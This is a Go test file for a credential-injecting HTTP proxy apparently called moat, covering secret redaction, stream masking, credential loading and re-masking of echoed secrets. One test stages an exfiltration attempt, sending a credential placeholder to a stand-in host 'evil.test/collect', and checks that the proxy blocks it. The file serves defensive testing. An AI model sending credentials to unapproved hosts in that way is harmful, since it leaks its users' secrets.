package proxy

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/moatsec/moat/internal/audit"
	"github.com/moatsec/moat/internal/policy"
)

// canary is unique, so a leak anywhere is unambiguous.
const canary = "sk-moat-canary-7f3a9c0d1e2b4a5968776655"

func testCredential(t *testing.T, hosts ...string) *Credential {
	t.Helper()
	c := &Credential{Name: "api", Header: "x-api-key: {secret}", Secret: NewSecret(canary), Placeholder: NewPlaceholder(len(canary))}
	for _, h := range hosts {
		r, err := policy.ParseHostRule(h)
		if err != nil {
			t.Fatal(err)
		}
		c.Hosts = append(c.Hosts, r)
	}
	return c
}

func TestPlaceholderLength(t *testing.T) {
	for _, n := range []int{0, 10, 40, 49, 50, 120} {
		p := NewPlaceholder(n)
		want := max(n, len(placeholderPrefix)+32)
		if len(p) != want || !strings.HasPrefix(p, placeholderPrefix) {
			t.Errorf("NewPlaceholder(%d) = %q (len %d); want prefix %q and length %d", n, p, len(p), placeholderPrefix, want)
		}
	}
	if NewPlaceholder(60) == NewPlaceholder(60) {
		t.Error("two placeholders are equal; they must be random")
	}
}

func TestSecretNeverFormats(t *testing.T) {
	s := NewSecret(canary)
	var buf bytes.Buffer
	log := slog.New(slog.NewJSONHandler(&buf, nil))
	log.Info("x", "secret", s, "cred", &Credential{Name: "n", Secret: s})
	out := fmt.Sprintf("%v %+v %#v %s %q", s, s, s, s, s) + buf.String() + fmt.Sprintf("%+v", Credential{Secret: s})
	if strings.Contains(out, canary) {
		t.Fatalf("the secret appears in formatted output: %s", out)
	}
	if !strings.Contains(out, "[redacted]") {
		t.Fatalf("the control: output should say [redacted]: %s", out)
	}
}

func TestStreamMaskerSplitSecret(t *testing.T) {
	m := newMasker([]*Credential{{Secret: NewSecret(canary), Placeholder: "PH"}})
	in := "before " + canary + " middle " + canary + "\n\nafter"
	for cut := 1; cut < len(in); cut++ {
		sm := &streamMasker{m: m}
		got := string(sm.write([]byte(in[:cut]))) + string(sm.write([]byte(in[cut:]))) + string(sm.flush())
		if want := "before PH middle PH\n\nafter"; got != want {
			t.Fatalf("cut at %d: got %q; want %q", cut, got, want)
		}
	}
	// An event that cannot begin a secret is not held back.
	sm := &streamMasker{m: m}
	if got := string(sm.write([]byte("data: x\n\n"))); got != "data: x\n\n" {
		t.Errorf("held back %q", got)
	}
}

func TestForwardCredentials(t *testing.T) {
	ca := newTestCA(t)
	var seenKey, seenAuth string
	up := ca.tlsUpstream(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seenKey = r.Header.Get("X-Api-Key")
		seenAuth = r.Header.Get("Accept-Encoding")
		w.Header().Set("X-Echo", r.Header.Get("X-Api-Key"))
		fmt.Fprintf(w, "you sent %s", r.Header.Get("X-Api-Key")) // a reflecting server
	}), "api.test", "evil.test")
	port := portOf(t, up.URL)
	cred := testCredential(t, "api.test:"+port)
	var logs bytes.Buffer
	f := newFixture(t, `version: 1
network:
  allow: ["api.test:`+port+`", "evil.test:`+port+`"]
  allow_private: ["api.test", "evil.test"]
`, map[string]string{"api.test": "127.0.0.1", "evil.test": "127.0.0.1"}, func(s *Server) {
		s.Credentials = []*Credential{cred}
		s.UpstreamTLS = &tls.Config{RootCAs: ca.pool}
		s.Log = slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	})
	send := func(target, key string) (*http.Response, string) {
		req, _ := http.NewRequest("GET", target, nil)
		if key != "" {
			req.Header.Set("X-Api-Key", key)
		}
		req.Header.Set("Accept-Encoding", "gzip")
		// Absolute-form https:// through the proxy: the proxy speaks TLS upstream.
		c, err := net.Dial("tcp", f.addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		req.WriteProxy(c)
		resp, err := http.ReadResponse(bufio.NewReader(c), req)
		if err != nil {
			t.Fatal(err)
		}
		return resp, readBody(t, resp)
	}

	// The control: the agent sends its placeholder; the upstream gets the key.
	resp, body := send("https://api.test:"+port+"/v1", cred.Placeholder)
	if resp.StatusCode != 200 {
		t.Fatalf("status %d: %s", resp.StatusCode, body)
	}
	if seenKey != canary {
		t.Fatalf("upstream got x-api-key %q; want the injected secret", seenKey)
	}
	if seenAuth != "" {
		t.Errorf("upstream got Accept-Encoding %q; compression must be off so echoes can be masked", seenAuth)
	}
	if want := "you sent " + cred.Placeholder; body != want || resp.Header.Get("X-Echo") != cred.Placeholder {
		t.Errorf("the echoed secret was not re-masked: body %q, X-Echo %q", body, resp.Header.Get("X-Echo"))
	}
	r := f.rec.find(t, func(r audit.Record) bool { return r.Host == "api.test" && r.Status == 200 })
	if r.Credential != "api" {
		t.Errorf("record credential %q; want api", r.Credential)
	}

	// The template injects even without a placeholder.
	seenKey = ""
	if resp, _ := send("https://api.test:"+port+"/v1", ""); resp.StatusCode != 200 || seenKey != canary {
		t.Errorf("without a placeholder: status %d, upstream key %q", resp.StatusCode, seenKey)
	}

	// The attack: the placeholder sent to another allowed host.
	seenKey = "untouched"
	resp, body = send("https://evil.test:"+port+"/collect", cred.Placeholder)
	if resp.StatusCode != 403 || !strings.HasPrefix(resp.Header.Get(ErrorHeader), "credential-exfiltration") {
		t.Fatalf("placeholder to evil.test: %d %q; want 403 credential-exfiltration", resp.StatusCode, resp.Header.Get(ErrorHeader))
	}
	if seenKey != "untouched" {
		t.Errorf("the upstream saw a request carrying the placeholder")
	}
	f.rec.find(t, func(r audit.Record) bool { return r.Rule == "credential-exfiltration" && r.Host == "evil.test" })

	// Plain HTTP never carries a secret.
	resp, _ = send("http://api.test:"+port+"/v1", cred.Placeholder)
	if resp.StatusCode != 403 || !strings.HasPrefix(resp.Header.Get(ErrorHeader), "credential-plaintext") {
		t.Errorf("placeholder over plain HTTP: %d %q; want 403 credential-plaintext", resp.StatusCode, resp.Header.Get(ErrorHeader))
	}

	for what, text := range map[string]string{"audit": f.rec.dump(), "log": logs.String()} {
		if strings.Contains(text, canary) {
			t.Errorf("the secret leaked into the %s", what)
		}
	}
}

func TestResolveCredentials(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "key")
	os.WriteFile(file, []byte(canary+"\n"), 0o600)
	env := map[string]string{"KEY": canary}
	getenv := func(k string) string { return env[k] }
	host := []policy.Entry{{Value: "api.test"}}
	for _, tt := range []struct {
		name string
		c    policy.Credential
		err  string
	}{
		{"env", policy.Credential{Name: "a", Hosts: host, Env: "KEY", Placeholder: "A"}, ""},
		{"file", policy.Credential{Name: "b", Hosts: host, File: file}, ""},
		{"command", policy.Credential{Name: "c", Hosts: host, Command: []string{"printf", "%s", canary}}, ""},
		{"unset env", policy.Credential{Name: "d", Hosts: host, Env: "NOPE"}, `credential "d" ( ): environment variable NOPE is empty or unset`},
		{"failing command", policy.Credential{Name: "e", Hosts: host, Command: []string{"sh", "-c", "echo " + canary + " >&2; exit 3"}}, `credential "e" ( ): secret command sh exited with status 3`},
		{"missing file", policy.Credential{Name: "f", Hosts: host, File: filepath.Join(dir, "none")}, `credential "f" ( ): read secret file: open ` + filepath.Join(dir, "none") + `: no such file or directory`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			cs, err := ResolveCredentials(context.Background(), []policy.Credential{tt.c}, getenv)
			if tt.err != "" {
				if err == nil || err.Error() != tt.err {
					t.Fatalf("error %v; want %s", err, tt.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if cs[0].Secret.v != canary {
				t.Errorf("secret not read")
			}
			if (tt.c.Placeholder != "") != (cs[0].Placeholder != "") {
				t.Errorf("placeholder %q for a credential with placeholder %q", cs[0].Placeholder, tt.c.Placeholder)
			}
		})
	}
}

func TestCompressedEchoIsMasked(t *testing.T) {
	ca := newTestCA(t)
	up := ca.tlsUpstream(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/gzip": // compresses although the proxy asked for identity
			w.Header().Set("Content-Encoding", "gzip")
			zw := gzip.NewWriter(w)
			fmt.Fprintf(zw, "echo %s", r.Header.Get("X-Api-Key"))
			zw.Close()
		case "/br":
			w.Header().Set("Content-Encoding", "br")
			io.WriteString(w, "opaque")
		}
	}), "api.test")
	port := portOf(t, up.URL)
	cred := testCredential(t, "api.test:"+port)
	f := newFixture(t, `version: 1
network:
  allow: ["api.test:`+port+`"]
  allow_private: ["api.test"]
`, map[string]string{"api.test": "127.0.0.1"}, func(s *Server) {
		s.Credentials = []*Credential{cred}
		s.UpstreamTLS = &tls.Config{RootCAs: ca.pool}
	})
	get := func(path string) (*http.Response, string) {
		req, _ := http.NewRequest("GET", "https://api.test:"+port+path, nil)
		c, err := net.Dial("tcp", f.addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		req.WriteProxy(c)
		resp, err := http.ReadResponse(bufio.NewReader(c), req)
		if err != nil {
			t.Fatal(err)
		}
		return resp, readBody(t, resp)
	}
	resp, body := get("/gzip")
	if resp.StatusCode != 200 || body != "echo "+cred.Placeholder || resp.Header.Get("Content-Encoding") != "" {
		t.Errorf("gzip echo: %d %q (Content-Encoding %q); want the decoded body with the placeholder", resp.StatusCode, body, resp.Header.Get("Content-Encoding"))
	}
	resp, body = get("/br")
	if resp.StatusCode != 502 || !strings.HasPrefix(resp.Header.Get(ErrorHeader), "unmaskable-response") || strings.Contains(body, "opaque") {
		t.Errorf("br response: %d %q; want 502 unmaskable-response", resp.StatusCode, resp.Header.Get(ErrorHeader))
	}
	f.rec.find(t, func(r audit.Record) bool { return r.Rule == "unmaskable-response" })
}
